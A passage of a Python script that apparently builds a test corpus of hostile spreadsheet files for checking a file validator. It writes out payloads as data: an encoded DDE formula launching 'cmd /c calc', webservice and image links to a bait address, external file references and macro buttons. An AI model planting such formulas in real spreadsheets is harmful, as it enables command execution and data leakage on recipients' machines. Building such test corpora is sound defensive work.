        ("编号DDE", cell.format('"of:=D&#68;E(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A1&quot;)"'), "dde-carried"),
        ("取网页", cell.format(f'"of:=webservice(&quot;{BAIT}&quot;)"'), "link-carried"),
        ("外部文件", cell.format("\"of:=['file:///tmp/x.ods'#$Sheet1.A1]\""), "link-carried"),
        ("外部表", inner.format('<table:table-source xlink:href="../x.ods"/>'), "link-carried"),
        (
            "网上图片",
            drawn.format(f'<draw:image xlink:href="{BAIT}/x.png"/>'),
            "link-carried",
        ),
        ("按钮", drawn.format(f"<office:event-listeners>{button}</office:event-listeners>"), "macro-carried"),
        ("数据源", f"<table:database-ranges>{bases}</table:database-ranges>", "query-carried"),
    ):
        yield Hostile(f"{name}.ods", as_ods(BytesIO(good()), more), "passed", (rule, "file-converted"))


def _ods(row: str, times: int) -> bytes:
    """A table of one row, in which one cell stands for so many."""
    cell = f'<table:table-cell table:number-columns-repeated="{times}" office:value-type="float" office:value="1"/>'
    return ods(f'<table:table table:name="表"><table:table-row {row}>{cell}</table:table-row></table:table>')


KINDS: tuple[Made, ...] = (
    cut_and_broken,
    of_another_kind,
    with_passwords,
    bombs,
    entities,
    climbing,
    riding_along,
    two_faced,
    archives,
    oddly_named_members,
    in_a_folder,
    no_form,
    strange_sheets,
    strange_values,
    data_files,
    published,
    open_documents,
)


def corpus() -> Iterator[Hostile]:
    """Every hostile file."""
    for kind in KINDS:
        yield from kind()


def write_corpus(folder: Path) -> list[Hostile]:
    """Write the hostile files into one folder below, those that a folder is searched for into a second, the good ones
    into a third, their roster beside; gives the hostile ones."""
    (folder / "恶意").mkdir(parents=True)
    (folder / "混放").mkdir()
    mixed = {file.name for file in in_a_folder()}
    (folder / "好的").mkdir()
    files = list(corpus())
    assert len({file.name for file in files}) == len(files), "each has a name of its own"
    for file in files:
        path = folder / ("混放" if file.name in mixed else "恶意") / file.name
        if file.make:
            file.make(path)
        else:
            path.write_bytes(file.content)
    for number in range(1, GOOD + 1):
        (folder / "好的" / f"第{number}局.xlsx").write_bytes(good(number))
    names = "\n".join(("机关全称", *(f"第{number}局" for number in range(1, GOOD + 1))))
    (folder / "名册.csv").write_text(names, encoding="utf-8")
    return files


if __name__ == "__main__":
    for made in write_corpus(Path(sys.argv[1])):
        print(made.status, ",".join(made.ids), len(made.content), made.name)
